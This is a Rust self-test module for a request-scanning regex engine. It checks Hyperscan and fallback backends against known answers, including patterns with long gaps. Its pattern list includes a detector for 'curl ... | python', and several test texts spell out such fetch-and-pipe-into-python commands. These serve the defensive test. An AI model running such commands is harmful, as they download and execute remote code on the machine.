//! Known answers, asked of the scanner itself before it judges requests.
//!
//! Among them are the cases that forks of the library have missed (VectorCamp/vectorscan#382 and what a
//! differential test of theirs and ours found): a gap of any length between two parts of a pattern, in
//! sets of several patterns, where the vectorised parts of the library are at work.

use super::compare::Said;
use super::dialect::RegexPattern;
use super::plan::{Backend, Field, ShardPlan};
use super::scanner::{Hits, Memory, Reading, Scanned};
use super::shard::{Placed, Shard, ShardFault};

/// Why a scanner must not judge.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SelfTestFault {
    /// It does not take the test's own patterns.
    #[error("the scanner does not take the patterns of its self-test")]
    Patterns(#[source] ShardFault),
    /// It is not the library that answers.
    #[error("the scanner does not take `{pattern}`, which it should")]
    NotTaken {
        /// The pattern.
        pattern: RegexPattern,
    },
    /// It does not scan.
    #[error("the scanner fails on a text of {bytes} bytes")]
    Scan {
        /// How long the text is.
        bytes: usize,
    },
    /// It gives a wrong answer.
    #[error("the scanner says that `{pattern}` {} a text of {bytes} bytes, which is wrong", said(*found))]
    Answer {
        /// The pattern.
        pattern: RegexPattern,
        /// How long the text is.
        bytes: usize,
        /// What it said.
        found: Said,
    },
}

const fn said(found: Said) -> &'static str {
    match found {
        Said::Fits => "fits",
        Said::FitsNot => "does not fit",
        Said::Failed => "cannot be looked for in",
    }
}

/// The patterns of the test, scanned for together.
const PATTERNS: [&str; 14] = [
    r"(?s)curl.*\|\s*python",
    r"a.*/x",
    r"(?s)a.*/y",
    r"^https?://([a-z0-9-]+\.)*ads\.example\.(com|net)/",
    r"/banner[0-9]{1,3}\.(gif|png)$",
    r"(^|\.)tracker\.example$",
    r"[?&]utm_[a-z]+=",
    r"(?-i)CaseMatters",
    r"casefolds",
    r"\bword\b",
    r"q[^/]*z",
    r"(one|two|three)-(four|five)",
    r"\xff\xfe",
    r"x{3,5}y",
];

/// Texts, and the places of the patterns that fit each.
const TEXTS: [(&[u8], &[usize]); 24] = [
    (b"curl http://xxxx:8000/ 2>&1 | python", &[0]),
    (b"curl http://xxxx:8000/ 2>&1 |python3", &[0]),
    (b"curl http://xxxx:8000/ 2>&1 \n|\n python", &[0]),
    (b"cur http://xxxx:8000/ | python", &[]),
    (b"a/x", &[1]),
    (b"a\n/x", &[]),
    (b"a\n/y", &[2]),
    (b"https://ads.example.com/", &[3]),
    (b"https://a.b-c.ads.example.net/q", &[3]),
    (b"https://xads.example.net/", &[]),
    (b"http://h/banner7.gif", &[4]),
    (b"http://h/banner7.gif\n", &[]),
    (b"http://h/banner1234.gif", &[]),
    (b"tracker.example", &[5]),
    (b"a.tracker.example", &[5]),
    (b"atracker.example", &[]),
    (b"http://h/?UTM_Source=1", &[6]),
    (b"CaseMatters CASEFOLDS", &[7, 8]),
    (b"casematters", &[]),
    (b"a word.", &[9]),
    (b"swords", &[]),
    (b"q----z one-five", &[10, 11]),
    (b"q--/--z \xff\xfe", &[12]),
    (b"xxy xxxy", &[13]),
];

/// The longest gap between two parts of a pattern that is asked about.
const GAP_MAX: usize = 300;

/// Asks the scanner for answers that are known.
///
/// # Errors
///
/// It fails, or an answer is wrong. Then it must not judge requests.
pub fn self_test(backend: Backend) -> Result<(), SelfTestFault> {
    let patterns = PATTERNS.iter().map(|text| RegexPattern::parse(text));
    let patterns: Vec<RegexPattern> = patterns.filter_map(Result::ok).collect();
    let plan = ShardPlan::new(Field::UserAgent, patterns);
    let shard = Shard::compile(&plan, backend).map_err(SelfTestFault::Patterns)?;
    if let Some(pattern) = not_taken(&shard) {
        return Err(SelfTestFault::NotTaken { pattern });
    }
    let mut test = Test { shard, memory: Memory::default(), hits: Hits::default() };
    test.memory.fit(std::iter::once(&test.shard));
    test.hits.fit(PATTERNS.len());
    for (text, fitting) in TEXTS {
        test.ask(text, fitting)?;
    }
    let mut text = Vec::with_capacity(GAP_MAX.saturating_mul(2));
    for gap in 0..GAP_MAX {
        for front in [b"".as_slice(), b"http://host/", b"0123456789abcde"] {
            for (start, end, fitting) in [
                (b"curl".as_slice(), b"| python".as_slice(), &[0][..]),
                (b"A", b"/X", &[1]),
                (b"a", b"/Y", &[2]),
                (b"q", b"z", &[10]),
            ] {
                text.clear();
                text.extend_from_slice(front);
                let alone = text.len();
                text.extend_from_slice(start);
                text.resize(text.len().saturating_add(gap), b'-');
                text.extend_from_slice(end);
                test.ask_at_least(&text, fitting)?;
                text.truncate(alone);
            }
        }
    }
    Ok(())
}

/// A pattern that is the fallback's, where none should be: an answer about it says nothing of the library.
fn not_taken(shard: &Shard) -> Option<RegexPattern> {
    let wanted = match shard.backend() {
        Backend::Hyperscan => Placed::Hyperscan,
        Backend::Regex => Placed::Fallback,
    };
    shard.placed().find(|(_, placed)| *placed != wanted).map(|(pattern, _)| pattern.clone())
}

struct Test {
    shard: Shard,
    memory: Memory,
    hits: Hits,
}

impl Test {
    fn scan(&mut self, text: &[u8]) -> Result<(), SelfTestFault> {
        self.hits.clear();
        self.memory.hold(text);
        match self.memory.scan(&self.shard, 0, 0, Reading::Whole, &mut self.hits) {
            // The fallback's answer is right, and says nothing of the library.
            Scanned::Fully if self.shard.faults() == 0 => Ok(()),
            Scanned::Fully | Scanned::Broken => Err(SelfTestFault::Scan { bytes: text.len() }),
        }
    }

    /// Exactly these patterns fit.
    fn ask(&mut self, text: &[u8], fitting: &[usize]) -> Result<(), SelfTestFault> {
        self.scan(text)?;
        for (place, source) in PATTERNS.iter().enumerate() {
            self.compare(text, source, Said::from(fitting.contains(&place)))?;
        }
        Ok(())
    }

    /// These patterns fit, whatever else does.
    fn ask_at_least(&mut self, text: &[u8], fitting: &[usize]) -> Result<(), SelfTestFault> {
        self.scan(text)?;
        for source in fitting.iter().filter_map(|place| PATTERNS.get(*place)) {
            self.compare(text, source, Said::Fits)?;
        }
        Ok(())
    }

    fn compare(&self, text: &[u8], source: &str, expected: Said) -> Result<(), SelfTestFault> {
        let mut patterns = self.shard.plan().patterns().iter().zip(0..);
        let own = patterns.find(|(pattern, _)| pattern.as_str() == source);
        let found = Said::from(own.is_some_and(|(_, number)| self.hits.has(number)));
        match (own, found == expected) {
            (Some(_), true) => Ok(()),
            (Some((pattern, _)), false) => {
                let (pattern, bytes) = (pattern.clone(), text.len());
                Err(SelfTestFault::Answer { pattern, bytes, found })
            }
            // A pattern of the test that is none any more is a fault of the test itself.
            (None, _) => Err(SelfTestFault::Scan { bytes: text.len() }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_scanners_pass() {
        self_test(Backend::Regex).unwrap();
        self_test(Backend::built_in()).unwrap();
    }

    #[test]
    #[cfg(feature = "hyperscan")]
    fn a_library_that_takes_too_little_is_caught() {
        let patterns = ["ads", "a$b"].map(|text| RegexPattern::parse(text).unwrap());
        let plan = ShardPlan::new(Field::UserAgent, patterns.to_vec());
        let shard = Shard::compile(&plan, Backend::Hyperscan).unwrap();
        assert_eq!(not_taken(&shard).as_ref().map(RegexPattern::as_str), Some("a$b"));
        assert_eq!(not_taken(&Shard::compile(&plan, Backend::Regex).unwrap()), None);
    }

    #[test]
    #[cfg(not(feature = "hyperscan"))]
    fn a_library_that_is_not_there_is_caught() {
        assert!(matches!(self_test(Backend::Hyperscan), Err(SelfTestFault::NotTaken { .. })));
    }

    #[test]
    fn every_pattern_of_the_test_is_one() {
        for text in PATTERNS {
            RegexPattern::parse(text).unwrap();
        }
        let answered: Vec<usize> =
            TEXTS.iter().flat_map(|(_, fitting)| *fitting).copied().collect();
        assert!((0..PATTERNS.len()).all(|place| answered.contains(&place)));
    }

    #[test]
    fn a_scanner_that_misses_is_caught() {
        let plan = ShardPlan::new(
            Field::UserAgent,
            PATTERNS.iter().skip(1).map(|text| RegexPattern::parse(text).unwrap()).collect(),
        );
        let shard = Shard::compile(&plan, Backend::built_in()).unwrap();
        let mut test = Test { shard, memory: Memory::default(), hits: Hits::default() };
        test.memory.fit(std::iter::once(&test.shard));
        test.hits.fit(PATTERNS.len());
        assert!(test.ask(b"curl http://xxxx:8000/ 2>&1 | python", &[0]).is_err());
        assert!(matches!(
            test.ask_at_least(b"nothing of it", &[1]),
            Err(SelfTestFault::Answer { found: Said::FitsNot, .. })
        ));
        assert!(matches!(
            test.compare(b"", r"a.*/x", Said::Fits),
            Err(SelfTestFault::Answer { found: Said::FitsNot, .. })
        ));
    }
}
